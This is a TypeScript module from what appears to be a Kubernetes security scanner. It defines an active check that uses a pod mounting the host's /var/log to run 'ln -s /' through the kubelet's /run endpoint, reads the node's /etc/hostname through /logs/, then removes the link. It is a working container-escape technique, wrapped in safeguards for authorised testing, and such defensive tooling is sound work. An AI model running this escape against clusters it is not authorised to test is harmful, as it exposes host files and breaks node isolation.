import { posix } from 'node:path';
import { refusal } from '../../active/send.js';
import { excerpt } from '../../active/toolkit.js';
import { defineHunter } from '../../core/hunter.js';
import { type KubeletPod, kubeletPods, kubeletTarget, perKubelet, runUrl } from './active-pods.js';

/** The host file read through the link: harmless, and different on every node. */
const PROOF_FILE = 'etc/hostname';

/** A running container that mounts the host's /var/log writable, and where. */
export function varLogMount(pods: KubeletPod[]): { pod: KubeletPod; container: string; mountPath: string } | undefined {
  for (const pod of pods.filter((p) => p.running)) {
    const volumes = new Set(
      pod.volumes
        .filter((v) => v.hostPath && posix.normalize(v.hostPath).replace(/\/$/, '') === '/var/log')
        .map((v) => v.name),
    );
    for (const container of pod.containers) {
      const mount = pod.mounts[container]?.find((m) => volumes.has(m.volume) && !m.readOnly);
      if (mount) return { pod, container, mountPath: posix.normalize(mount.mountPath).replace(/\/$/, '') };
    }
  }
  return undefined;
}

/**
 * The /var/log escape, as kube-hunter's ProveVarLogMount did it: in a pod that mounts the host's /var/log,
 * `ln -s / <mount>/kubeferret-<run id>` through the kubelet's /run makes the node's root readable under
 * the kubelet's /logs/; reading /logs/kubeferret-<run id>/etc/hostname proves it, then the link is removed.
 * The link is a journalled change. It follows the kubelet that runs commands for the caller (the
 * /var/log finding is about a pod, not a port, and may come from the read-only port that has no /run) and
 * looks for such a pod itself; the pod's KF-KUBELET-014 finding, when already reported, is the proof's parent.
 */
export const kubeletActiveVarLogEscape = defineHunter({
  id: 'kubelet-active-varlog-escape',
  title: 'Reads a host file through a pod that mounts /var/log (symlink escape)',
  mode: 'active',
  on: 'Finding',
  when: (f) => f.kb === 'KF-KUBELET-006' || f.kb === 'KF-KUBELET-001',
  subject: perKubelet,
  reports: ['KF-KUBELET-104'],
  changes:
    'creates the symlink /var/log/kubeferret-<run id> → / on the node through a pod mounting /var/log, reads /etc/hostname through it, removes it',
  async hunt(finding, ctx) {
    const target = kubeletTarget(ctx, finding);
    if (!target) return;
    const found = varLogMount((await kubeletPods(ctx, target)) ?? []);
    if (!found) {
      ctx.log('no running container mounts the host /var/log writable');
      return;
    }
    const { pod, container, mountPath } = found;
    const linkName = `kubeferret-${ctx.runId}`;
    const link = `${mountPath}/${linkName}`;
    const where = `${pod.namespace}/${pod.name}/${container}`;
    const url = runUrl(target.base, pod, container, `ln -s / ${link}`);
    const made = await ctx.change({
      action: `create symlink /var/log/${linkName} → / on the node (via ${where})`,
      target: url,
      identity: target.identity,
      apply: { method: 'POST', url },
      undo: {
        method: 'POST',
        url: runUrl(target.base, pod, container, `rm -f ${link}`),
        description: `remove symlink /var/log/${linkName} on the node (via ${where})`,
        // 404 means the pod is gone, not the link: it is not undone then.
        goneStatuses: [],
      },
    });
    if (made.state !== 'applied') {
      if (made.response) ctx.log(`ln -s in ${where}: ${refusal(made.response)}`);
      return;
    }
    const path = `/logs/${linkName}/${PROOF_FILE}`;
    const read = await ctx.net.http({ url: `${target.base}${path}`, credential: target.secret });
    const removed = await made.undo();
    if (read.status !== 200) {
      ctx.log(`GET ${path}: ${refusal(read)}`);
      return;
    }
    const weakness = ctx.known(
      'Finding',
      (f) => f.kb === 'KF-KUBELET-014' && f.host === target.host && f.object === `pod ${pod.namespace}/${pod.name}`,
    );
    ctx.report(
      {
        kb: 'KF-KUBELET-104',
        host: target.host,
        port: target.port,
        path,
        object: `pod ${pod.namespace}/${pod.name}`,
        identity: target.identity.name,
        evidence: `linked /var/log/${linkName} → / through ${where} (mounts the host /var/log at ${mountPath}) and read the node's /${PROOF_FILE}: "${excerpt(read.text(), 80)}"; link ${removed.state === 'undone' ? 'removed' : 'NOT removed'}`,
        proof: true,
      },
      [finding.id, ...weakness.map((f) => f.id)],
    );
  },
});
